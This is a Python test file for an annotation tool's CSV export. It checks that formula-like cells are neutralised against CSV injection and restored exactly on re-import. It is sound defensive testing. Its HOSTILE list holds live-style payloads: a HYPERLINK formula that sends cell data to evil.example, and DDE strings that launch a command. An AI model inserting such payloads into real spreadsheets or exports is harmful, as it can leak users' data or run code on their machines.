"""CSV cells that a spreadsheet would run (OWASP "CSV injection") are neutralised in every CSV we
write, and `import-annotations` restores them, so an export round-trips exactly."""

from __future__ import annotations

import csv
import io

import pandas as pd

from analysis.files.annotations_table import read_table, write_table
from analysis.files.csv_cells import FORMULA_SIGNS, neutralise, restore
from annotate.cli import main
from annotate.engine import get_engine
from annotate.results import exports, study_report
from annotate.results.frames import annotations_frame
from tests.factories import pair_record, write_jsonl
from tests.report_fixtures import frame, row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=already quoted",
    "''",
    "'tis a plain comment",
]
IDS = HOSTILE[:4]  # pair ids and annotator names: printable, no control characters


def spreadsheet_would_run(cell: str) -> bool:
    return cell != "" and cell[0] in FORMULA_SIGNS


def csv_cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for line in csv.reader(handle) for cell in line]


def test_every_value_is_neutralised_and_restored():
    for value in [*HOSTILE, "", "ok", "'", "a=b", "-"]:
        written = neutralise(value)
        assert not spreadsheet_would_run(written), value
        assert restore(written) == value


def test_a_foreign_csvs_leading_quote_is_kept():
    assert restore("'tis") == "'tis"
    assert restore("'") == "'"


def test_the_annotations_table_round_trips_hostile_text(tmp_path):
    rows = [
        row(pair_id, annotator, "chosen", comment=comment)
        for pair_id, annotator in zip(IDS, reversed(IDS), strict=True)
        for comment in HOSTILE
    ]
    table = frame(rows)
    path = tmp_path / "a.csv"
    write_table(table, path)
    assert not [c for c in csv_cells(path) if spreadsheet_would_run(c)]
    loaded = read_table(path)
    for column in ("pair_id", "annotator", "comment"):
        assert loaded[column].tolist() == table[column].tolist()


def test_export_then_import_annotations_is_exact_and_the_report_csvs_are_safe(db_url, tmp_path):
    pairs = [pair_record(i, id=pair_id, question=f"{pair_id} ?") for i, pair_id in enumerate(IDS)]
    assert (
        main(["--db", db_url, "import-pairs", str(write_jsonl(tmp_path / "p.jsonl", pairs))]) == 0
    )
    table = frame(
        [
            row(pair_id, annotator, pref, comment=comment, chosen=(4, 4, 4), rejected=(3, 3, 3))
            for pair_id in IDS
            for annotator, pref, comment in zip(
                IDS, ["chosen", "rejected", "chosen", "tie"], HOSTILE, strict=False
            )
        ]
    )
    source = tmp_path / "in.jsonl"
    write_table(table, source)
    assert main(["--db", db_url, "import-annotations", str(source)]) == 0
    before = annotations_frame(get_engine(db_url), study="default")

    exported = tmp_path / "out.csv"
    assert main(["--db", db_url, "export", "--out", str(exported)]) == 0
    assert not [c for c in csv_cells(exported) if spreadsheet_would_run(c)]
    assert main(["--db", db_url, "import-annotations", str(exported)]) == 0
    after = annotations_frame(get_engine(db_url), study="default")
    pd.testing.assert_frame_equal(before, after)
    assert sorted(after["comment"].dropna()) == sorted(HOSTILE[:4] * 4)

    out = tmp_path / "report"
    assert main(["--db", db_url, "report", "--out", str(out), "--bootstrap", "0"]) == 0
    for name in ("pairs.csv", "annotators.csv"):
        cells = csv_cells(out / name)
        assert not [c for c in cells if spreadsheet_would_run(c)], name
        assert neutralise(IDS[0]) in cells

    # the console's downloads: the export and the report files
    engine = get_engine(db_url)
    download = exports.export_annotations(engine, study="default", fmt="csv").decode()
    cells = [c for line in csv.reader(io.StringIO(download)) for c in line]
    assert not [c for c in cells if spreadsheet_would_run(c)]
    report, _, _ = study_report.build_study_report(engine, study="default", bootstrap=0)
    files = study_report.report_files(report, engine=engine, study="default")
    for name, data in files.items():
        if name.endswith(".csv"):
            cells = [c for line in csv.reader(io.StringIO(data.decode())) for c in line]
            assert not [c for c in cells if spreadsheet_would_run(c)], name
